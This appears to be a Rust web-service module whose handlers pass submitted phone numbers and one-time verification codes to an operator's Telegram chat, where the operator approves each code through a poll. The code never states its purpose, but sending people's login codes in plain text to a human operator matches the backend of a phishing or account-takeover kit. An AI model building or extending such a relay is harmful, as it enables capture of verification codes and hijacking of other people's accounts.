//! HTTP API handlers.

use super::types::{
    ApprovalResponse, CheckApprovalRequest, HealthResponse, SubmitPhoneRequest,
    SubmitPhoneResponse, VerifyCodeRequest, WebhookAck,
};
use super::AppState;
use crate::error::GatewayError;
use crate::{approval, notify};
use axum::{
    extract::State,
    http::HeaderMap,
    Json,
};
use telegram_client::Update;
use tracing::{debug, info, warn};

/// Header Telegram sends the configured secret token in on every
/// webhook delivery.
pub const WEBHOOK_SECRET_HEADER: &str = "X-Telegram-Bot-Api-Secret-Token";

const MAX_PHONE_LEN: usize = 64;
const MAX_COUNTRY_LEN: usize = 64;
const MAX_CODE_LEN: usize = 32;

/// Relay a phone submission to the operator chat.
pub async fn submit_phone(
    State(state): State<AppState>,
    Json(request): Json<SubmitPhoneRequest>,
) -> Result<Json<SubmitPhoneResponse>, GatewayError> {
    let phone = request.phone_number.trim();
    let country = request.country.trim();

    if phone.is_empty() || country.is_empty() {
        return Err(GatewayError::Validation(
            "Phone number and country are required".to_string(),
        ));
    }
    if phone.len() > MAX_PHONE_LEN {
        return Err(GatewayError::Validation("Phone number is too long".to_string()));
    }
    if country.len() > MAX_COUNTRY_LEN {
        return Err(GatewayError::Validation("Country is too long".to_string()));
    }

    let (telegram, chat_id) = state.telegram()?;

    info!(country, "Relaying phone submission to operator chat");
    telegram
        .send_message(chat_id, &notify::submission_message(phone, country))
        .await?;

    Ok(Json(SubmitPhoneResponse { success: true }))
}

/// Open an approval poll for a submitted verification code.
pub async fn verify_code(
    State(state): State<AppState>,
    Json(request): Json<VerifyCodeRequest>,
) -> Result<ApprovalResponse, GatewayError> {
    let phone = request.phone_number.trim();
    let code = request.verification_code.trim();

    if phone.is_empty() || code.is_empty() {
        return Err(GatewayError::Validation(
            "Phone number and verification code are required".to_string(),
        ));
    }
    if phone.len() > MAX_PHONE_LEN {
        return Err(GatewayError::Validation("Phone number is too long".to_string()));
    }
    if code.len() > MAX_CODE_LEN {
        return Err(GatewayError::Validation(
            "Verification code is too long".to_string(),
        ));
    }

    let (telegram, chat_id) = state.telegram()?;

    let poll = telegram
        .send_poll(
            chat_id,
            &notify::poll_question(phone, code),
            &approval::POLL_OPTIONS,
        )
        .await?;
    info!(poll_id = %poll.id, "Opened approval poll");

    // Register the poll and read any verdict under one lock, so an
    // answer landing through the webhook in between cannot be missed.
    let verdict = {
        let mut ledger = state.ledger.write().await;
        ledger.open_poll(&poll.id, Some(phone.to_string()));
        state.store.save(&ledger).await?;
        ledger.verdict(&poll.id)
    };

    Ok(match verdict {
        Some(v) => ApprovalResponse::Decided {
            approved: v.is_approved(),
        },
        None => ApprovalResponse::Pending {
            poll_id: Some(poll.id),
        },
    })
}

/// Report the operator's decision for a previously opened poll.
///
/// Reads only the ledger; an unknown poll id is indistinguishable from
/// an unanswered one and reports pending.
pub async fn check_approval(
    State(state): State<AppState>,
    Json(request): Json<CheckApprovalRequest>,
) -> Result<ApprovalResponse, GatewayError> {
    let poll_id = request.poll_id.trim();
    if poll_id.is_empty() {
        return Err(GatewayError::Validation("Poll ID is required".to_string()));
    }

    let verdict = state.ledger.read().await.verdict(poll_id);

    Ok(match verdict {
        Some(v) => ApprovalResponse::Decided {
            approved: v.is_approved(),
        },
        None => ApprovalResponse::Pending { poll_id: None },
    })
}

/// Receive a webhook update from the bot API.
///
/// Always acknowledges accepted updates with 200 so the messaging
/// service stops re-delivering them.
pub async fn telegram_webhook(
    State(state): State<AppState>,
    headers: HeaderMap,
    Json(update): Json<Update>,
) -> Result<Json<WebhookAck>, GatewayError> {
    if let Some(secret) = &state.webhook_secret {
        let presented = headers
            .get(WEBHOOK_SECRET_HEADER)
            .and_then(|value| value.to_str().ok());
        if presented != Some(secret.as_str()) {
            warn!("Webhook delivery with wrong or missing secret token");
            return Err(GatewayError::WebhookAuth);
        }
    }

    let applied = {
        let mut ledger = state.ledger.write().await;
        let applied = approval::apply_updates(&mut ledger, std::slice::from_ref(&update));
        if applied > 0 {
            state.store.save(&ledger).await?;
        }
        applied
    };

    if applied == 0 {
        debug!(
            update_id = update.update_id,
            "Webhook update carried no new poll answer"
        );
    }

    Ok(Json(WebhookAck {}))
}

/// Service health and ledger counters.
pub async fn health(State(state): State<AppState>) -> Json<HealthResponse> {
    // Probe the bot API before taking the ledger lock; the probe can
    // block for the full HTTP timeout.
    let telegram_api_healthy = match state.telegram.as_deref() {
        Some(client) => client.health_check().await,
        None => false,
    };

    let (pending_polls, decided_polls) = {
        let ledger = state.ledger.read().await;
        (ledger.count_pending(), ledger.count_decided())
    };

    Json(HealthResponse {
        status: "healthy".to_string(),
        pending_polls,
        decided_polls,
        telegram_api_healthy,
    })
}
